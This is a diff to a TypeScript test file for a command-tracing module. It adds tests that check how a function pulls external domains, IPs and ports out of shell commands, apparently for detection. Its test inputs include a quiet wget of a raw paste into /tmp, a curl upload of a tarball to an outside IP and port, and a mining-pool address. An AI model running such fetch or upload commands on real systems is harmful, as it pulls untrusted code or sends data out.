@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { commandTraces } from './command-traces.ts';
+import { commandTraces, otherEnds } from './command-traces.ts';
 
 const told = (command: string): readonly string[] =>
   commandTraces(command).map(({ type, value }) => `${type} ${value}`);
@@ -56,5 +56,17 @@ describe('a command names', () => {
     commandTraces(' wget a.b'.repeat(30_000));
     commandTraces(`wget ${'a.'.repeat(50_000)}`);
     expect(performance.now() - before).toBeLessThan(2_000);
+  });
+});
+
+describe('the other ends of a command', () => {
+  test.each<[string, string, readonly string[]]>([
+    ['by name', 'wget -q https://Paste.example.net/raw/xyz -O /tmp/x', ['domain paste.example.net']],
+    ['by address and port', 'curl -s -T /tmp/b.tar http://203.0.113.89:8080/u', ['ip 203.0.113.89', 'port 8080']],
+    ['without a scheme', 'wget -q files.example.net/x', ['domain files.example.net']],
+    ['none of its own network', 'curl http://10.0.0.5:8080/x http://build.internal/y', []],
+    ['none that a miner speaks to', 'x -o stratum+tcp://pool.example.net:3333', []],
+  ])('are told %s', (_, command, expected) => {
+    expect(otherEnds(command).map(({ type, value }) => `${type} ${value}`)).toEqual(expected);
   });
 });
